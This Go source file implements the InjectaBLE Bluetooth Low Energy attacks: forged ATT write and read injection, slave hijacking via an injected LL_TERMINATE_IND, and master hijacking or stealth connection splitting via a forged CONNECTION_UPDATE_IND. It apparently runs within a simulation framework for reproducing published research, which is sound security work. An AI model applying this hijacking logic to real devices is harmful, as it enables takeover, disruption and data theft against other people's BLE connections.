package injectable

import (
	"fmt"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/gatt"
	"injectable/internal/l2cap"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// Attacker bundles the InjectaBLE tooling on one radio device, mirroring
// the paper's dongle: sniffer + injector + the attack scenarios A–D.
type Attacker struct {
	Stack    *link.Stack
	Sniffer  *Sniffer
	Injector *Injector

	// SlaveHijack / MasterHijack / MITM retain the most recent successful
	// role adoption or relay session. The completion callback alone is not
	// enough: state referenced only by scheduler closures is invisible to
	// world snapshots, and a forked world would replay it with stale
	// channel-selection state.
	SlaveHijack  *SlaveHijack
	MasterHijack *MasterHijack
	MITM         *MITM
}

// NewAttacker builds the attack tooling on a stack.
func NewAttacker(stack *link.Stack, cfg InjectorConfig) *Attacker {
	s := NewSniffer(stack)
	return &Attacker{
		Stack:    stack,
		Sniffer:  s,
		Injector: NewInjector(stack, s, cfg),
	}
}

// --- Scenario A: illegitimately using a device functionality ---------------

// InjectWrite injects an ATT Write Command toward a characteristic handle
// (scenario A: trigger any feature the device exposes).
func (a *Attacker) InjectWrite(handle uint16, value []byte, done func(Report)) error {
	return a.Injector.Inject(ForgeATTWriteCommand(handle, value), done)
}

// ReadReport extends Report with the data extracted by an injected read.
type ReadReport struct {
	Report
	// Value is the attribute value from the slave's Read Response.
	Value []byte
	// Err is the ATT error if the slave refused the read.
	Err error
}

// InjectRead injects an ATT Read Request and extracts the slave's Read
// Response (scenario A, confidentiality variant).
func (a *Attacker) InjectRead(handle uint16, done func(ReadReport)) error {
	return a.Injector.Inject(ForgeATTReadRequest(handle), func(r Report) {
		rr := ReadReport{Report: r}
		if r.Success {
			rr.Value, rr.Err = parseReadResponse(r.Attempts[len(r.Attempts)-1].ResponsePDU)
		}
		if done != nil {
			done(rr)
		}
	})
}

// parseReadResponse digs the ATT Read Response out of the slave's L2CAP
// frame.
func parseReadResponse(raw []byte) ([]byte, error) {
	p, err := pdu.UnmarshalDataPDU(raw)
	if err != nil {
		return nil, fmt.Errorf("injectable: response: %w", err)
	}
	if len(p.Payload) < l2cap.HeaderSize+1 {
		return nil, fmt.Errorf("injectable: response carries no ATT PDU")
	}
	attPDU := p.Payload[l2cap.HeaderSize:]
	switch att.Opcode(attPDU[0]) {
	case att.OpReadRsp:
		return append([]byte(nil), attPDU[1:]...), nil
	case att.OpError:
		if len(attPDU) == 5 {
			return nil, &att.Error{
				Request: att.Opcode(attPDU[1]),
				Handle:  uint16(attPDU[2]) | uint16(attPDU[3])<<8,
				Code:    att.ErrorCode(attPDU[4]),
			}
		}
	}
	return nil, fmt.Errorf("injectable: unexpected ATT opcode %#02x", attPDU[0])
}

// --- Scenario B: hijacking the Slave role -----------------------------------

// SlaveHijack is an in-progress slave impersonation: the attacker serves
// the given GATT database to the legitimate master.
type SlaveHijack struct {
	Conn   *link.Conn
	GATT   *gatt.Server
	Report Report
	// mux keeps the L2CAP reassembly state reachable for snapshots.
	mux *l2cap.Mux
}

// HijackSlave injects LL_TERMINATE_IND to expel the slave (which the
// master never sees), then impersonates it with the provided GATT server
// (paper §VI-B, Fig. 6).
func (a *Attacker) HijackSlave(server *gatt.Server, done func(*SlaveHijack, error)) error {
	return a.Injector.Inject(ForgeTerminateInd(), func(r Report) {
		if !r.Success {
			done(nil, fmt.Errorf("injectable: terminate injection failed after %d attempts", r.AttemptCount()))
			return
		}
		st := a.Sniffer.State()
		a.Sniffer.Stop()
		// Time the adopted slave from where the *master's* anchor was
		// predicted, not from our injected frame (which fired one widening
		// earlier): the master keeps its own schedule.
		last := r.Attempts[len(r.Attempts)-1]
		conn, err := link.AdoptSlave(a.Stack, st.Params, st.Master, link.AdoptionState{
			EventCount: st.EventCount,
			SN:         st.SlaveSN,
			NESN:       st.SlaveNESN,
			LastAnchor: last.MasterAnchorEstimate,
		})
		if err != nil {
			done(nil, err)
			return
		}
		mux := wireServer(conn, server)
		a.SlaveHijack = &SlaveHijack{Conn: conn, GATT: server, Report: r, mux: mux}
		done(a.SlaveHijack, nil)
	})
}

// --- Scenario C: hijacking the Master role ----------------------------------

// UpdateParams are the forged CONNECTION_UPDATE values used to split the
// slave off the legitimate schedule.
type UpdateParams struct {
	// WinSize in 1.25 ms units (0 = 2).
	WinSize uint8
	// WinOffset in 1.25 ms units (0 = half the interval, giving the
	// MITM engine disjoint leg schedules).
	WinOffset uint16
	// Interval in 1.25 ms units (0 = keep the sniffed interval).
	Interval uint16
	// InstantLead is how many events ahead the instant is placed (0 = 12).
	InstantLead uint16
}

func (u *UpdateParams) applyDefaults(st *ConnState) {
	if u.WinSize == 0 {
		u.WinSize = 2
	}
	if u.Interval == 0 {
		u.Interval = st.Params.Interval
	}
	if u.WinOffset == 0 {
		u.WinOffset = u.Interval / 2
	}
	if u.InstantLead == 0 {
		u.InstantLead = 12
	}
}

// InjectConnectionUpdate injects a forged CONNECTION_UPDATE_IND and then
// leaves the connection alone: the slave adopts the new timing at the
// instant while the legitimate master keeps the old schedule, so the two
// silently split — the schedule-splitting update step of §VI-C without
// the role takeover (a stealth denial of service, and the attacker
// "update" goal of the scenario DSL).
func (a *Attacker) InjectConnectionUpdate(upd UpdateParams, done func(Report)) error {
	st0 := a.Sniffer.State()
	if st0 == nil {
		return fmt.Errorf("injectable: not synchronised")
	}
	upd.applyDefaults(st0)
	build := func(st *ConnState) pdu.DataPDU {
		forged := pdu.ConnectionUpdateInd{
			WinSize:   upd.WinSize,
			WinOffset: upd.WinOffset,
			Interval:  upd.Interval,
			Latency:   0,
			Timeout:   st.Params.Timeout,
			Instant:   st.EventCount + upd.InstantLead,
		}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}
	return a.Injector.InjectDynamic(build, done)
}

// MasterHijack is an in-progress master impersonation.
type MasterHijack struct {
	Conn   *link.Conn
	Client *gatt.Client
	Report Report
	// mux keeps the L2CAP reassembly state reachable for snapshots.
	mux *l2cap.Mux
}

// HijackMaster injects a forged CONNECTION_UPDATE and takes the master
// role on the new schedule at the instant; the legitimate master times out
// (paper §VI-C, Fig. 7 upper half).
func (a *Attacker) HijackMaster(upd UpdateParams, done func(*MasterHijack, error)) error {
	st0 := a.Sniffer.State()
	if st0 == nil {
		return fmt.Errorf("injectable: not synchronised")
	}
	upd.applyDefaults(st0)

	var forged pdu.ConnectionUpdateInd
	build := func(st *ConnState) pdu.DataPDU {
		forged = pdu.ConnectionUpdateInd{
			WinSize:   upd.WinSize,
			WinOffset: upd.WinOffset,
			Interval:  upd.Interval,
			Latency:   0,
			Timeout:   st.Params.Timeout,
			Instant:   st.EventCount + upd.InstantLead,
		}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}
	return a.Injector.InjectDynamic(build, func(r Report) {
		if !r.Success {
			done(nil, fmt.Errorf("injectable: update injection failed after %d attempts", r.AttemptCount()))
			return
		}
		a.takeoverAtInstant(forged, r, done)
	})
}

// takeoverAtInstant keeps following until the forged instant, then becomes
// the slave's master on the new schedule.
func (a *Attacker) takeoverAtInstant(forged pdu.ConnectionUpdateInd, r Report, done func(*MasterHijack, error)) {
	st := a.Sniffer.State()
	proceed := func() {
		oldInterval := st.IntervalDuration()
		a.Sniffer.Stop()
		// First new anchor: where the old schedule's instant anchor would
		// fall, plus transmit window delay and offset (we transmit at the
		// window start, as a real master would).
		span := sim.Duration(st.MissedEvents+1) * oldInterval
		delay := ble.ConnUnit + sim.Duration(forged.WinOffset)*ble.ConnUnit
		firstAnchor := st.LastAnchor.Add(span + delay)
		newParams := st.Params
		newParams.WinSize = forged.WinSize
		newParams.WinOffset = forged.WinOffset
		newParams.Interval = forged.Interval
		newParams.Latency = forged.Latency
		newParams.Timeout = forged.Timeout
		conn, err := link.AdoptMaster(a.Stack, newParams, st.Slave, link.AdoptionState{
			EventCount: forged.Instant,
			SN:         st.SlaveNESN,
			NESN:       !st.SlaveSN,
			LastAnchor: st.LastAnchor,
		}, firstAnchor)
		if err != nil {
			done(nil, err)
			return
		}
		client, mux := wireClient(conn)
		a.MasterHijack = &MasterHijack{Conn: conn, Client: client, Report: r, mux: mux}
		done(a.MasterHijack, nil)
	}
	if st.EventCount == forged.Instant {
		proceed()
		return
	}
	prev := a.Sniffer.OnEventClosed
	a.Sniffer.OnEventClosed = func(s *ConnState) {
		if prev != nil {
			prev(s)
		}
		if s.EventCount == forged.Instant {
			a.Sniffer.OnEventClosed = prev
			proceed()
		}
	}
}

// wireServer attaches a GATT server to an adopted slave connection.
func wireServer(conn *link.Conn, server *gatt.Server) *l2cap.Mux {
	mux := l2cap.NewMux(connSender{conn})
	server.ATT().SetSend(func(b []byte) { mux.Send(l2cap.CIDATT, b) })
	mux.Handle(l2cap.CIDATT, server.HandlePDU)
	conn.OnData = func(p pdu.DataPDU) { mux.HandlePDU(p) }
	server.ATT().Encrypted = conn.Encrypted
	return mux
}

// wireClient attaches a GATT client to an adopted master connection.
func wireClient(conn *link.Conn) (*gatt.Client, *l2cap.Mux) {
	mux := l2cap.NewMux(connSender{conn})
	client := gatt.NewClient(att.NewClient(func(b []byte) { mux.Send(l2cap.CIDATT, b) }))
	mux.Handle(l2cap.CIDATT, client.HandlePDU)
	conn.OnData = func(p pdu.DataPDU) { mux.HandlePDU(p) }
	return client, mux
}

// connSender adapts link.Conn to l2cap.Transport.
type connSender struct{ conn *link.Conn }

// Send implements l2cap.Transport.
func (s connSender) Send(llid pdu.LLID, payload []byte) { s.conn.Send(llid, payload) }
